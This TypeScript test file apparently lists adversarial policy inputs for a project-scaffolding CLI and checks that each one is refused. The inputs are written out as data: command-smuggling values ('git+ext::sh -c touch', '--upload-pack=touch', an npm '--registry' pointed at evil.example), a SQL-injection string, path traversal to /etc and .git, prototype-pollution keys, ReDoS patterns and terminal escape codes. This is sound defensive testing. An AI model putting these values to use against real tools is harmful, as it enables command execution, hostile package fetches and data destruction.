import type { Attack, Corpus, Files } from './attack.ts';

const FILE = '.create-api-policy.json';

const policy = (json: object): Files => ({ [FILE]: json });
const text = (content: string | Uint8Array): Files => ({ [FILE]: content });
const named = (source: string) => ({ env: { CREATE_API_POLICY: source } });
const managed = (pattern: string) => ({ files: policy({ managed: [pattern] }) });
const denied = (reason: string) => ({ files: policy({ deny: { framework: { axum: reason } } }) });
const waived = (waiver: object) => ({
  files: policy({
    lock: { framework: 'poem' },
    waivers: [{ rule: 'lock.framework', reason: 'x', expires: '2027-01-01', ...waiver }],
  }),
});

const ATTACKS: Readonly<Record<string, Attack>> = {
  // Files.
  'a link to a file that is no policy': { link: [FILE, '{outside}/secret'], refused: [2, 'is not JSON'] },
  'a link to itself': { link: [FILE, FILE], refused: [2, FILE] },
  'a link to a device without end': { link: [FILE, '/dev/zero'], refused: [2, 'it is not a file'] },
  'a named pipe': { pipe: FILE, refused: [2, 'it is not a file'] },
  'a folder in its place': { files: { [`${FILE}/x`]: 'x' }, refused: [2, 'it is not a file'] },
  'a megabyte of spaces': { files: text(`{${' '.repeat(1_000_000)}}`), refused: [2, 'bytes, and may have'] },
  'bytes that are no text': { files: text(new Uint8Array([0xff, 0xfe, 0x7b, 0x00])), refused: [2, 'not UTF-8'] },
  nothing: { files: text(''), refused: [2, 'is not JSON'] },
  'lists in lists without end': { files: text('['.repeat(90_000)), refused: [2, FILE] },
  'a key twice': { files: text('{"lock":{},"lock":{"framework":"axum"}}'), refused: [2, 'lock stands twice'] },
  'a prototype as a key': {
    files: text('{"__proto__":{"polluted":"yes"}}'),
    refused: [2, '__proto__ cannot be a key'],
  },
  'a prototype of its rules': {
    files: text('{"deny":{"framework":{"__proto__":"x"}}}'),
    refused: [2, '__proto__ cannot be a key'],
  },
  'a key that every object has': { files: text('{"lock":{"constructor":"x"}}'), refused: [2, 'constructor'] },
  'a key that clears the screen': { files: text('{"\\u001b[2J":1}'), refused: [2, 'is not a known key'] },
  'a key that turns the text around': { files: text('{"\\u202edetsurt":1}'), refused: [2, 'is not a known key'] },

  // Rules.
  'a choice that every object has': {
    files: policy({ lock: { framework: 'toString' } }),
    refused: [2, 'lock.framework is "toString"'],
  },
  'rules that leave no choice': {
    files: policy({ lock: { framework: 'axum' }, deny: { framework: { axum: 'no' } } }),
    refused: [4, 'deny.framework.axum'],
  },
  'a list of rules of a hundred thousand': {
    files: text(`{"managed":[${Array.from({ length: 30_000 }, () => '"a"').join(',')}]}`),
    refused: [2, 'managed'],
  },
  'a required resource with SQL': {
    files: policy({ require: { resources: ["x'); drop table users; -- name:text"] } }),
    refused: [2, 'require.resources[0]'],
  },
  'a required resource that is a path': {
    files: policy({ require: { resources: ['../../outside/x name:text'] } }),
    refused: [2, 'require.resources[0]'],
  },
  'a required feature that is a path': {
    files: policy({ require: { features: ['../../outside'] } }),
    refused: [2, 'require.features[0]'],
  },
  'a reason of several lines': { ...denied('x\nCreate it? yes'), refused: [2, 'deny.framework.axum'] },
  'a reason that clears the screen': { ...denied('x\u001b[2J'), refused: [2, 'deny.framework.axum'] },
  'a reason that turns the text around': { ...denied('x \u202e yadot'), refused: [2, 'deny.framework.axum'] },
  'a reason of ten thousand letters': { ...denied('x'.repeat(10_000)), refused: [2, 'deny.framework.axum'] },
  'an explanation that clears the screen': { files: policy({ about: 'x\u001b[2J' }), refused: [2, 'about is'] },

  // Managed files.
  'managed files outside': { ...managed('../../outside/**'), refused: [2, 'managed[0]'] },
  'managed files anywhere': { ...managed('/etc/**'), refused: [2, 'managed[0]'] },
  'managed files of the repository': { ...managed('.git/**'), refused: [2, 'managed[0]'] },
  'managed files on a drive': { ...managed('C:\\**'), refused: [2, 'managed[0]'] },
  'a pattern with a hundred stars': { ...managed('**a'.repeat(60)), refused: [2, 'managed[0]'] },
  'a pattern that is an expression': { ...managed('(a+)+$') },

  // Versions.
  'a version that is a flag': {
    files: policy({ minVersions: { createApi: '--registry=https://evil.example' } }),
    refused: [2, 'minVersions.createApi'],
  },
  'a version without end': {
    files: policy({ minVersions: { crates: { axum: `${'9'.repeat(100_000)}.0.0` } } }),
    refused: [2, 'minVersions.crates.axum'],
  },
  'a crate that is an expression': {
    files: policy({ minVersions: { crates: { '(a+)+$': '1.0.0' } } }),
    refused: [2, 'minVersions.crates'],
  },

  // Waivers.
  'a waiver of another policy': { ...waived({ rule: 'lock.database' }), refused: [2, 'is no rule of this policy'] },
  'a waiver without a reason': { ...waived({ reason: '' }), refused: [2, 'waivers[0].reason'] },
  'a waiver on no day': { ...waived({ expires: '2027-02-30' }), refused: [2, 'waivers[0].expires'] },
  'a waiver for ever': { ...waived({ expires: '+99999-01-01' }), refused: [2, 'waivers[0].expires'] },
  'a reason of a waiver that clears the screen': {
    ...waived({ reason: 'x\u001b[2J' }),
    refused: [2, 'waivers[0].reason'],
  },

  // Where the variable leads.
  'a program': { ...named(`git+ext::sh -c touch% x#${'a'.repeat(40)}`), refused: [2, 'CREATE_API_POLICY'] },
  'a flag of git': {
    ...named(`git+https://--upload-pack=touch/x#${'a'.repeat(40)}`),
    refused: [2, 'CREATE_API_POLICY'],
  },
  'a flag of npm': { ...named('npm:--registry=https://evil.example@1.0.0'), refused: [2, 'CREATE_API_POLICY'] },
  'a device without end': { ...named('/dev/zero'), refused: [2, 'it is not a file'] },
  'a file that is no policy': { ...named('../outside/secret'), refused: [2, 'is not JSON'] },
  'a name that clears the screen': { ...named('\u001b[2J.json'), refused: [2, '.json'] },
};

/** Policies, above the project that is created. */
export const POLICIES: Corpus = {
  title: 'policies',
  folder: 'work',
  argv: ['orders', '--framework', 'axum', '--yes', '--no-install', '--no-git'],
  attacks: ATTACKS,
};
